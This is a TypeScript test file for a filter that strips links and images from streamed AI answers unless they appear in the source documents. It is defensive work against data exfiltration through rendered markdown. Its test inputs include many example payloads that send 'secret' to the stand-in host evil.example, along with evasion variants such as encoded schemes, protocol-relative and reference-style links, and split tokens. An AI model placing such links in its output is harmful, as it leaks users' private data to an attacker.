import { describe, expect, it } from '@jest/globals';
import { testSeed } from '@kiln/testing/seed';
import fc from 'fast-check';
import { LinkFilter, SourceAddresses } from './link-filter.js';

const SOURCE = [
  'See https://known.example/a?b=c, or [the manual](https://known.example/manual_(new)).',
  'A picture: ![Kiln](https://known.example/kiln.png). Escaped: https://known.example/a\\_b and www.known.example',
  'Objects: s3://known-bucket/a. Write to mailto:a@known.example or to https://evil.example/?q=',
].join('\n');

function filter(pieces: readonly string[]): string {
  const links = new LinkFilter(new SourceAddresses([{ text: SOURCE, filename: 'a.md', headings: [] }]));
  return pieces.map((piece) => links.add(piece)).join('') + links.end();
}

describe('an answer keeps the links of its sources', () => {
  it.each([
    'See https://known.example/a?b=c.',
    '(https://known.example/a?b=c) and **https://known.example/a_b**, <https://known.example/a?b=c>',
    '[here](https://known.example/manual_(new)) and ![a](https://known.example/kiln.png "a kiln")',
    'www.known.example, mailto:a@known.example, s3://known-bucket/a',
  ])('in %j', (answer) => {
    expect(filter([answer])).toBe(answer);
  });

  it('and text that is no link', () => {
    const text = 'It works![1] [2][3] 1 < 2, a[0] (b), why? f(x) 3:4 http is a protocol: w ww h :// 🔥 ratio 1://2 <';
    expect(filter([text])).toBe(text);
  });
});

describe('an answer loses links and images that no source contains', () => {
  it.each([
    ['Fired ![](https://evil.example/?q=secret) hot.', 'Fired  hot.'],
    ['Fired![secret](https://evil.example/?q=secret)hot.', 'Fired hot.'],
    ['[a manual](https://evil.example/secret "x") says', '[a manual] says'],
    ['[1](https://evil.example/?q=secret)', '[1]'],
    ['[![x](https://evil.example/1)](https://evil.example/secret)', '[ ]'],
    ['See https://evil.example/?q=secret.', 'See .'],
    ['See https://known.example/a?b=cSECRET and', 'See  and'],
    ['See https://known.example/secret', 'See '],
    ['HTTPS://EVIL.example/secret www.evil.example/secret mailto:secret@evil.example', '  '],
    ['evil://secret ftp://evil.example', 'evil '],
    ['<https://evil.example/secret> ', '  '],
    ['<img src="https://evil.example/secret">', '< img src="">'],
    ['<img src=//evil.example/secret>', '< img src=//evil.example/secret>'],
    ['![a][b]\n\n[b]: //evil.example/secret', '![a][b]\n\n[b] : //evil.example/secret'],
    ['![a](<//evil.example/secret with spaces>)', ''],
    ['![a](<https://known.example/kiln.png secret>)', ''],
    ['![a [b] c](https://evil.example/secret)', '![a [b] c]'],
    ['![a](https\\://evil.example/secret)', ''],
    ['![a](&#104;ttps://evil.example/secret)', ''],
    ['![a](https://evil.example/secret', '! [a] ('],
    ['ht![](https://evil.example)tps://evil.example/secret', 'ht tps'],
    ['https://known.example/a?b=c的秘密', 'https://known.example/a?b=c 的秘密'],
    ['[1](p. 3)', '[1] (p. 3)'],
  ])('%j becomes %j', (answer, shown) => {
    expect(filter([answer])).toBe(shown);
  });

  it('also when a link is longer than what is held back', () => {
    const long = 'secret'.repeat(1_000);
    for (const answer of [`![](https://evil.example/${long})`, `![${long}](https://evil.example/x)`]) {
      expect(filter(answer.match(/[^]/g) ?? [])).toBe(filter([answer]));
      expect(filter([answer])).not.toMatch(/\]\(|evil/);
    }
  });
});

it('whether a link is removed does not depend on how the answer is divided into pieces', () => {
  const fragment = fc.constantFrom(
    '![',
    '[',
    ']',
    '(',
    ')',
    '](',
    ']:',
    '<',
    '>',
    '!',
    ':',
    '/',
    '//',
    '://',
    'ht',
    'tps',
    'https://',
    ' ',
    '\n',
    'www',
    '.',
    'evil.example',
    '/secret',
    '"',
    'word',
    '窯',
    '🔥',
    '[1]',
    '<img src=',
    'mailto',
    '\\',
    'https://known.example/a?b=c',
    'https://known.example/kiln.png',
    '![](https://evil.example/secret)',
  );
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 16 }), fc.array(fc.nat(4), { maxLength: 20 }), (fragments, sizes) => {
      const answer = fragments.join('');
      const pieces: string[] = [];
      for (let at = 0, count = 0; at < answer.length; count++) {
        const size = 1 + (sizes[count % Math.max(sizes.length, 1)] ?? 0);
        pieces.push(answer.slice(at, at + size));
        at += size;
      }
      const shown = filter([answer]);
      expect(filter(pieces)).toBe(shown);
      // The answer must contain no link that is not in the source, neither in markup nor as an address.
      for (const [, target = ''] of shown.matchAll(/\]\(([^()\s]*)/g)) expect(SOURCE).toContain(target);
      for (const [address] of shown.matchAll(/(?<![\p{L}\p{N}])(?:https?:\/\/|www\.)[^\s<\]()"\u7aaf]*/gu)) {
        expect(SOURCE).toContain(address.replace(/[^\p{L}\p{N}]+$/u, ''));
      }
    }),
    { numRuns: 2_000, seed: testSeed() },
  );
});
